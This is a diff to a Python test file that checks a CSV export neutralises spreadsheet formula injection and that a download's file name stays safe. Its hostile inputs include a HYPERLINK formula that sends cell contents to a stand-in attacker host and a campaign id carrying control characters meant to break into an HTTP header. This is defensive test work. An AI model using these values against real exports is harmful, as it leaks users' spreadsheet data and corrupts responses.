@@ -6,14 +6,17 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from pathlib import Path
 from typing import Any
 
+import httpx
 import pytest
 
 from beacon_cli import segments
 from beacon_formats.spreadsheet import safe_cell
 from services.delivery.api import csv_line
+from tests.hostile.conftest import Apis
 
 HOSTILE = [
     '=HYPERLINK("https://evil.example/?"&A1,"click")',
@@ -50,9 +53,7 @@ class FakeBeacon:
 
 
 def test_segments_export_neutralises_every_column(tmp_path: Path) -> None:
-    members = [
-        {column: value for column in segments.COLUMNS} for value in [*HOSTILE, *HARMLESS]
-    ]
+    members = [{column: value for column in segments.COLUMNS} for value in [*HOSTILE, *HARMLESS]]
     out = tmp_path / "members.csv"
     written = segments.export(FakeBeacon(members), "s1", out, page_size=100)  # type: ignore[arg-type]
     assert written == len(members)
@@ -61,3 +62,17 @@ def test_segments_export_neutralises_every_column(tmp_path: Path) -> None:
     for row, value in zip(rows, [*HOSTILE, *HARMLESS], strict=True):
         expected = "'" + value if value in HOSTILE else value
         assert set(row.values()) == {expected}, row
+
+
+@pytest.mark.integration
+async def test_the_export_file_name_holds_only_safe_characters(apis: Apis) -> None:
+    """A campaign id with control characters went into Content-Disposition: a 500."""
+    async with httpx.AsyncClient(base_url=apis.urls["delivery"], timeout=30) as client:
+        response = await client.get(
+            "/api/v1/communications/export",
+            params={"campaign_id": '\x04\u00b7"; x=\r\n', "status": "FAILED"},
+            headers=apis.stack.headers("viewer"),
+        )
+    assert response.status_code == 200, response.text
+    disposition = response.headers["content-disposition"]
+    assert re.fullmatch(r'attachment; filename="communications-[A-Za-z0-9._-]+\.csv"', disposition)
